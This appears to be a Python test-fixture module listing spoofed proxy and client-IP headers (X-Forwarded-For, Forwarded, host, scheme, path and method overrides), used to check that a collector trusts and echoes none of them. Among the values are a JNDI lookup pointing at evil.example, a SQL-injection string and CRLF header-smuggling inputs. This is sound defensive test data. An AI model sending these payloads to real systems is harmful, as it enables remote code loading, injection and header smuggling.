"""What clients write into headers to be somebody else, or somewhere else.

Each is a block of header lines, sent as it stands. No proxy of ours passes any of it on in a place that the collector
believes, and the collector believes none of it by itself.
"""

FAKE = "203.0.113.66"
"""An address that is nobody's (RFC 5737)."""
MARKS = (FAKE, "evil.example", "/evil", "gopher", "0b5e55ed")
"""Words of which none may show in a page, a redirect or a log."""

FORWARDED_FOR = (
    FAKE,
    f"{FAKE}, 198.51.100.7",
    "127.0.0.1",
    f"127.0.0.1, {FAKE}",
    f"{FAKE}, 127.0.0.1",
    f"{FAKE},127.0.0.1,127.0.0.1,127.0.0.1",
    ", ".join([FAKE] * 100),
    f"{FAKE}:4711",
    f"::ffff:{FAKE}",
    f"[::ffff:{FAKE}]:4711",
    "2001:db8::66",
    "[2001:db8::66]",
    "fe80::1%eth0",
    f'"{FAKE}"',
    f"'{FAKE}'",
    f"{FAKE} ",
    f"\t{FAKE}",
    f" ,{FAKE}",
    f"{FAKE},",
    "",
    ",",
    "unknown",
    "_hidden",
    "localhost",
    "0.0.0.0",
    "::",
    "::1",
    "3405803842",
    "0313.0.0161.0102",
    "0xcb.0x0.0x71.0x42",
    "203.000.113.066",
    "203.0.113.66.1",
    f"{FAKE}/32",
    f"{FAKE}%0d%0aX-Real-IP: {FAKE}",
    f"${{jndi:ldap://evil.example/{FAKE}}}",
    f"' OR '1'='1' -- {FAKE}",
)
"""Values of X-Forwarded-For."""

FORWARDED = (
    f"for={FAKE}",
    f'for="{FAKE}:4711"',
    'for="[2001:db8::66]:4711"',
    f"For={FAKE};Host=evil.example;Proto=gopher;By=203.0.113.67",
    f"for={FAKE}, for=198.51.100.7",
    f"for=unknown, for={FAKE}",
    f"for=_obfuscated;for={FAKE}",
    f"by={FAKE}",
    "host=evil.example;proto=gopher",
    f'for="{FAKE}',
    f"for={FAKE};",
    f"for = {FAKE}",
)
"""Values of Forwarded (RFC 7239)."""

OTHERS = (
    f"X-FORWARDED-FOR: {FAKE}\r\nx-forwarded-for: {FAKE}",
    f"X-Forwarded-For: 198.51.100.7\r\nX-Forwarded-For: {FAKE}",
    f"X-Forwarded-For: {FAKE}\r\nForwarded: for={FAKE}",
    f"X-Forwarded-For: {FAKE}\r\nForwarded: for=198.51.100.7",
    f"X_Forwarded_For: {FAKE}",
    f"X-Forwarded_For: {FAKE}",
    f"X-Forwarded: for={FAKE}",
    f"X-Original-Forwarded-For: {FAKE}",
    f"X-Real-IP: {FAKE}",
    f"X-Real-Ip: 198.51.100.7\r\nX-Real-IP: {FAKE}",
    f"CF-Connecting-IP: {FAKE}",
    "CF-Connecting-IPv6: 2001:db8::66",
    f"True-Client-IP: {FAKE}",
    f"X-Client-IP: {FAKE}\r\nClient-IP: {FAKE}",
    f"X-Cluster-Client-IP: {FAKE}",
    f"Fastly-Client-IP: {FAKE}",
    f"X-Azure-ClientIP: {FAKE}\r\nX-Azure-SocketIP: {FAKE}",
    f"X-Envoy-External-Address: {FAKE}",
    f"X-Appengine-User-IP: {FAKE}",
    f"X-Remote-IP: {FAKE}\r\nX-Remote-Addr: {FAKE}\r\nRemote-Addr: {FAKE}",
    f"X-Originating-IP: [{FAKE}]",
    f"X-ProxyUser-Ip: {FAKE}",
    f"Via: 1.1 evil.example\r\nX-Forwarded-By: {FAKE}",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-Host: evil.example, localhost",
    "X-Host: evil.example\r\nX-HTTP-Host-Override: evil.example\r\nX-Original-Host: evil.example",
    "X-Forwarded-Server: evil.example\r\nX-Forwarded-Server: localhost",
    "X-Forwarded-Proto: gopher",
    "X-Forwarded-Proto: http\r\nX-Forwarded-Ssl: off\r\nFront-End-Https: off",
    "X-Forwarded-Scheme: gopher\r\nX-Forwarded-Protocol: gopher\r\nX-Url-Scheme: gopher\r\nX-Scheme: gopher",
    "X-Forwarded-Port: 6666",
    "X-Forwarded-Prefix: /evil",
    "X-Forwarded-Prefix: //evil.example/\r\nX-Forwarded-Path: /evil\r\nX-Forwarded-Uri: /evil",
    "X-Script-Name: /evil\r\nScript-Name: /evil\r\nX-Ingress-Path: /evil",
    "X-Original-URL: /evil\r\nX-Rewrite-URL: /evil",
    "X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\nX-Method-Override: DELETE",
    "Connection: X-Forwarded-For, X-Request-ID, traceparent",
    f"Connection: close, X-Forwarded-For\r\nX-Forwarded-For: {FAKE}",
    "X-Request-ID: 0b5e55ed-evil.example",
    # Whoever sends a trace is followed in it; what is none, and what vendors add, is nobody's.
    "traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\r\ntracestate: evil.example=1",
    "traceparent: 00-0b5e55ed0b5e55ed-0b5e55ed-01",
    f"X-Forwarded-For: {FAKE}\rX-Real-IP: {FAKE}",
    f"X-Forwarded-For: {FAKE}\nX-Real-IP: {FAKE}",
    f"X-Forwarded-For: {FAKE}\0",
    f"X-Forwarded-For:\r\n {FAKE}",
    f"X-Forwarded-For : {FAKE}",
    f"Referer: https://evil.example/evil\r\nOrigin: https://evil.example\r\nUser-Agent: {FAKE}",
    f"Cookie: client={FAKE}\r\nAuthorization: Basic {FAKE}\r\nFrom: a@evil.example",
)
"""Whole lines, several where that matters."""

SPOOFED = (
    *(f"X-Forwarded-For: {value}" for value in FORWARDED_FOR),
    *(f"Forwarded: {value}" for value in FORWARDED),
    *OTHERS,
)
